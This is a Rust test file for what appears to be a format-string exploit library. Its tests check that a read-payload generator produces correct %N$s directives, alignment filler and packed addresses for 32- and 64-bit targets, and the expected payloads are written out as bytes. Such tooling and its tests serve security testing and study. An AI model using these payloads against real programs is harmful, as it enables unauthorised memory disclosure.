// Read payload layout: %N$s directive, alignment filler, packed address.
use formatstring::architectures::arch_by_name;
use formatstring::error::PayloadError;
use formatstring::payloads::ReadPayload;
use formatstring::settings::PayloadSettings;

#[test]
fn read_32_bit_little_endian() {
    let settings = PayloadSettings::new(7, arch_by_name("i386").unwrap());
    let payload = ReadPayload::new(0x0804_a000)
        .generate(&settings, 0)
        .expect("read payload should generate");

    // Address slot two words past the buffer start: %9$s, NUL filler,
    // little-endian address.
    assert_eq!(payload, b"%9$s\x00\x00\x00\x00\x00\xa0\x04\x08");
    assert_eq!(payload.len() % 4, 0, "address slot must be word aligned");
    assert_eq!(&payload[payload.len() - 4..], b"\x00\xa0\x04\x08");
}

#[test]
fn read_64_bit_with_prior_output() {
    let settings = PayloadSettings::new(6, arch_by_name("amd64").unwrap());
    let start_len = 3;
    let payload = ReadPayload::new(0x40_0600)
        .generate(&settings, start_len)
        .expect("read payload should generate");

    assert!(payload.starts_with(b"%8$s"));
    assert_eq!(
        (start_len + payload.len()) % 8,
        0,
        "address slot must be word aligned after the printed prefix"
    );
    assert_eq!(
        &payload[payload.len() - 8..],
        b"\x00\x06\x40\x00\x00\x00\x00\x00"
    );
}

#[test]
fn read_with_buffer_padding() {
    let arch = arch_by_name("i386").unwrap();
    let settings =
        PayloadSettings::with_constraints(7, 2, arch, b"", None).expect("valid settings");
    let payload = ReadPayload::new(0x0804_a000)
        .generate(&settings, 0)
        .expect("read payload should generate");

    // Buffer starts 2 bytes short of a word boundary, so the address slot
    // sits at byte 2 + 4k of the payload.
    assert!(payload.starts_with(b"%9$s"));
    assert_eq!((payload.len() - 2) % 4, 0);
    assert_eq!(&payload[payload.len() - 4..], b"\x00\xa0\x04\x08");
}

#[test]
fn read_rejects_a_forbidden_address_byte() {
    let arch = arch_by_name("i386").unwrap();
    let settings =
        PayloadSettings::with_constraints(7, 0, arch, b"\x00", None).expect("valid settings");

    // The packed address carries a NUL, which the settings forbid.
    match ReadPayload::new(0x0804_a000).generate(&settings, 0) {
        Err(PayloadError::ForbiddenByte(0x00)) => {}
        other => panic!("expected ForbiddenByte(0x00), got {other:?}"),
    }
}

#[test]
fn read_is_deterministic() {
    let settings = PayloadSettings::new(7, arch_by_name("i386").unwrap());
    let read = ReadPayload::new(0x0804_a000);
    assert_eq!(
        read.generate(&settings, 0).unwrap(),
        read.generate(&settings, 0).unwrap()
    );
}
